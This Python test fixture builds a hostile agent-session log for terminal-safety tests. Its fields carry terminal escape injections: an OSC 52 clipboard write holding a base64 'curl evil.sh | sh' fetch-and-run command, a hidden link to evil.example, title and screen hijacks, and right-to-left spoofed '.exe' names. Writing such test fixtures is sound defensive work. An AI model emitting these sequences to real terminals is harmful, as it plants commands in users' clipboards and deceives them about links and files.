"""A hostile session: terminal escapes in every place content reaches the screen.

OSC 52 writes the clipboard, OSC 0 sets the window title, OSC 8 makes a hidden link,
CSI 2J clears the screen, BEL rings, CR prints over a line's start, U+202E reverses what
follows. Used by the terminal-safety tests (CLI and app) and by hand in tmux.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from tests.conftest import write_sif

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # "curl evil.sh | sh" into the clipboard
OSC0 = "\x1b]0;PWNED\x07"
OSC8 = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
CSI_2J = "\x1b[2J\x1b[H"
BEL = "\x07"
RLO = "\u202e"
C1_CSI = "\x9b31m"
# Everything a terminal would obey, as it would appear raw in the output.
RAW_FORBIDDEN = ("\x1b]", "\x1b[2J", "\x07", "\r", RLO, "\x9b", "\u200b")

SID = "s-evil"
KEY = f"constraint.{OSC0}key"


def hostile_records() -> list[dict[str, Any]]:
    return [
        {"type": "session", "id": SID, "title": f"evil {OSC0}title{RLO}txt.exe", "owner": "olga",
         "created_at": "2025-05-01T00:00:00Z"},
        {"type": "tool_def", "session": SID, "name": "fetch", "definition_hash": "sha256:" + "a" * 64},
        {"type": "event", "session": SID, "seq": 1, "kind": "user_message", "trust": "user",
         "content": f"look this up {OSC52}please", "at": "2025-05-01T08:00:00Z"},
        {"type": "event", "session": SID, "seq": 2, "kind": "tool_call", "trust": "model", "call_id": "c1",
         "tool": "fetch", "args": {"url": f"https://x.example/{OSC8}"}, "at": "2025-05-01T08:01:00Z"},
        {"type": "event", "session": SID, "seq": 3, "kind": "tool_result", "trust": "tool", "call_id": "c1",
         "tool": "fetch", "content": f"{CSI_2J}safe looking\rEVIL OVERWRITE{BEL} {C1_CSI}red", "at": "2025-05-01T08:02:00Z"},
        {"type": "event", "session": SID, "seq": 4, "kind": "assistant_message", "trust": "model",
         "content": f"done {RLO}gnp.exe [bold red]markup[/] zero\u200bwidth", "at": "2025-05-01T08:03:00Z"},
        {"type": "material", "session": SID, "id": "res:page", "source_event": 3, "content": f"page {OSC52} body",
         "disclosure_scope": "task", "media_type": "text/plain", "retrieved_at": "2025-05-01T08:02:00Z"},
        {"type": "stub", "session": SID, "id": "stub-page", "material": "res:page", "read_slice": [0, 10],
         "disclosure_scope": "task", "outline": f"outline {OSC0}{CSI_2J}"},
        {"type": "state", "session": SID, "key": "goal.main", "kind": "goal", "value": f"goal {OSC52}",
         "writer": "user", "sources": ["evt:1"], "version": 1},
        {"type": "state", "session": SID, "key": KEY, "kind": "constraint", "value": f"never {RLO}yas\r{BEL}",
         "writer": "user", "sources": ["evt:1"], "version": 1},
        {"type": "action", "session": SID, "id": "a1", "intent": f"send {OSC52}", "status": "unknown"},
        {"type": "summary", "session": SID, "generation": 1, "text": f"summary {OSC52} [reverse]x[/] {CSI_2J}",
         "covers": [1, 4], "base_version": 1, "unresolved": [f"open {OSC0}"], "sources": ["evt:3"]},
        {"type": "candidate", "session": SID, "id": "cand-evil", "base_version": 1, "goal_revision": 1,
         "exact_fields": {}, "open_actions": [], "unknowns": ["a1"], "summary": f"cand {OSC52}", "sources": ["evt:3"]},
        {"type": "handoff", "session": SID, "id": "h-evil", "to_session": f"next{OSC0}", "goal_revision": 1,
         "context_version": 1, "material": {"goal": f"goal {OSC52}"}, "tool_mapping": {}},
        {"type": "deletion_request", "session": SID, "id": "del-evil", "targets": ["evt:3"],
         "reason": f"reason {OSC52}"},
        {"type": "ledger", "session": SID, "kind": f"harness.{OSC0}note", "actor": f"bot{OSC52}",
         "at": "2025-05-01T08:04:00Z", "payload": {"note": f"hi {OSC52}"}},
    ]


def write_hostile(folder: Path) -> Path:
    return write_sif(folder / "hostile.jsonl", hostile_records())
